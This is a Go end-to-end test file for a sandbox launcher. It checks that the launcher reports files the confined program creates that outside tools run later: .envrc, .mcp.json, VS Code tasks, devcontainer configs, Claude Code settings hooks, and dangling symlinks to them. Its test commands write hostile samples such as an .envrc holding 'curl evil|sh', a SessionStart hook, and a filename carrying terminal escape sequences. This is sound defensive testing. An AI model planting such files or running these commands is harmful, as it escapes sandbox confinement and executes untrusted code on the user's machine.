//go:build linux

package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestRunsLaterMade: a file that tools outside the sandbox run (.mcp.json,
// .envrc, .vscode/tasks.json) and that did not exist at the start cannot
// be held by a bind; when the program makes one, the launcher names it
// after the run — in the project, next to an existing .vscode dir, and in
// a directory below it, whose name's escape sequences reach the terminal
// escaped. A run that makes none says nothing of the kind.
func TestRunsLaterMade(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			proj := filepath.Join(w.dataDir, "workspace", "proj")
			mustMkdir(t, filepath.Join(proj, ".vscode"))
			sub := "sub\x1b[2K\rforged"
			mustMkdir(t, filepath.Join(proj, sub))
			writeFile(t, filepath.Join(proj, ".vscode", "settings.json"), "{}\n")
			chownTree(t, w.home, u)
			if r := w.sh("sandbox", "echo x > notes.txt", "--workdir", proj); r.code != 0 || strings.Contains(r.stderr, "the program made") {
				t.Errorf("a run that made no runs-later file: exit %d, stderr %q", r.code, r.stderr)
			}
			r := w.sh("sandbox", `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json && echo 'curl evil|sh' > .envrc && `+
				`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo '{"initializeCommand":"sh"}' > .devcontainer.json && for d in sub*; do echo x > "$d/.envrc"; done && mkdir made && echo x > made/.envrc`, "--workdir", proj)
			if r.code != 0 {
				t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
			}
			for _, f := range []string{".mcp.json", ".envrc", ".vscode/tasks.json", ".devcontainer.json", `sub\u001b[2K\u000dforged/.envrc`, "made/.envrc"} {
				if want := "the program made " + filepath.Join(proj, f) + ":"; !strings.Contains(r.stderr, want) {
					t.Errorf("no warning %q; stderr %q", want, r.stderr)
				}
			}
			if n := strings.Count(r.stderr, "the program made"); n != 6 {
				t.Errorf("%d warnings, want 6; stderr %q", n, r.stderr)
			}
			if strings.ContainsAny(r.stderr, "\x1b\r") {
				t.Errorf("raw control characters in stderr %q", r.stderr)
			}
		})
	}
}

// TestClaudeSettingsMadeOnce: a project .claude/settings.json the program
// makes in a directory Claude Code's report watches (the working
// directory) is named once, key by key, not also as a file it made.
func TestClaudeSettingsMadeOnce(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			proj := filepath.Join(w.dataDir, "workspace", "proj")
			mustMkdir(t, proj)
			chownTree(t, w.home, u)
			r := w.sh("sandbox", `mkdir .claude && echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"evil"}]}]}}' > .claude/settings.json`, "--workdir", proj)
			if r.code != 0 {
				t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
			}
			if n := strings.Count(r.stderr, filepath.Join("proj", ".claude", "settings.json")); n != 1 || !strings.Contains(r.stderr, `"hooks"`) {
				t.Errorf("named %d times, want once for its hooks; stderr %q", n, r.stderr)
			}
		})
	}
}

// TestRunsLaterMadeDangling: a runs-later file the program makes as a
// symlink to a file that does not exist yet (in the data dir's tmp, which
// the next sandbox of the user writes as its /tmp; the host's /tmp, any
// user's) is named after the run too, as is one below a directory
// symlink it makes: once the target appears, direnv, Claude Code or VS
// Code outside run what it says. Before, the check followed the link,
// found nothing, and no launch ever named it. A dangling link the user
// had before the run is not the program's.
func TestRunsLaterMadeDangling(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			proj := filepath.Join(w.dataDir, "workspace", "proj")
			mustMkdir(t, proj)
			tmp := filepath.Join(w.dataDir, "tmp")
			if err := os.Symlink(filepath.Join(tmp, "users-own"), filepath.Join(proj, ".devcontainer.json")); err != nil {
				t.Fatal(err)
			}
			chownTree(t, w.home, u)
			time.Sleep(100 * time.Millisecond) // the link's ctime before the run's
			r := w.sh("sandbox", "ln -s "+tmp+"/e .envrc && ln -s "+tmp+"/m .mcp.json && ln -s "+tmp+"/vs .vscode", "--workdir", proj)
			if r.code != 0 {
				t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
			}
			for _, f := range []string{".envrc", ".mcp.json", ".vscode/tasks.json"} {
				if want := "the program made " + filepath.Join(proj, f) + ":"; !strings.Contains(r.stderr, want) {
					t.Errorf("no warning %q; stderr %q", want, r.stderr)
				}
			}
			if strings.Contains(r.stderr, ".devcontainer.json") {
				t.Errorf("the user's own dangling link named; stderr %q", r.stderr)
			}
		})
	}
}

// TestClaudeSettingsDangling: ~/.claude/settings.json that the program
// replaces with a symlink to a file that does not exist yet is named
// after the run: whoever makes the target later (the next sandbox, in
// its /tmp; another user, in the host's) writes the hooks an unconfined
// claude runs, and no launch compared anything. The user's own dangling
// link (settings.local.json) is not named.
func TestClaudeSettingsDangling(t *testing.T) {
	for _, u := range users {
		for _, mode := range confinedModes {
			t.Run(u.name+"/"+mode, func(t *testing.T) {
				w := newWorld(t, u)
				claudeHome(t, w)
				target := filepath.Join(w.dataDir, "tmp", "later")
				if err := os.Symlink(target+"-users", filepath.Join(w.home, ".claude", "settings.local.json")); err != nil {
					t.Fatal(err)
				}
				chownTree(t, w.home, u)
				// claude: rx reports where omega-run stays the parent.
				r := w.run("--mode", mode, "--", scriptClaude(t, w), `rm "$HOME/.claude/settings.json" && ln -s `+target+` "$HOME/.claude/settings.json"`)
				if r.code != 0 {
					t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
				}
				if !strings.Contains(r.stderr, "the program made ~/.claude/settings.json a symlink that leads to no file yet") {
					t.Errorf("the dangling link is not named; stderr %q", r.stderr)
				}
				if strings.Contains(r.stderr, "settings.local.json") {
					t.Errorf("the user's own dangling link named; stderr %q", r.stderr)
				}
			})
		}
	}
}

// TestClaudeSettingsLinkedDir: with ~/.claude a symlink of the user's (a
// dotfile manager's), a settings file the program removes is not named
// as a symlink it made, and one it makes a symlink to no file yet is
// named although a link (the directory's) was on the way before.
func TestClaudeSettingsLinkedDir(t *testing.T) {
	const made = "the program made ~/.claude/settings"
	for _, u := range users {
		for _, mode := range confinedModes {
			t.Run(u.name+"/"+mode, func(t *testing.T) {
				w := newWorld(t, u)
				dots := filepath.Join(w.home, "dotfiles", "claude")
				mustMkdir(t, dots)
				writeFile(t, filepath.Join(dots, "settings.json"), `{"model": "sonnet"}`)
				if err := os.Symlink(dots, filepath.Join(w.home, ".claude")); err != nil {
					t.Fatal(err)
				}
				chownTree(t, w.home, u)
				r := w.run("--mode", mode, "--", scriptClaude(t, w), `rm "$HOME/.claude/settings.json"`)
				if r.code != 0 || strings.Contains(r.stderr, made) {
					t.Errorf("removed: %+v; want nothing named", r)
				}
				target := filepath.Join(w.dataDir, "tmp", "later")
				r = w.run("--mode", mode, "--", scriptClaude(t, w), `ln -s `+target+` "$HOME/.claude/settings.local.json"`)
				if r.code != 0 || !strings.Contains(r.stderr, made+".local.json a symlink that leads to no file yet") {
					t.Errorf("made a dangling link: %+v; want it named", r)
				}
			})
		}
	}
}
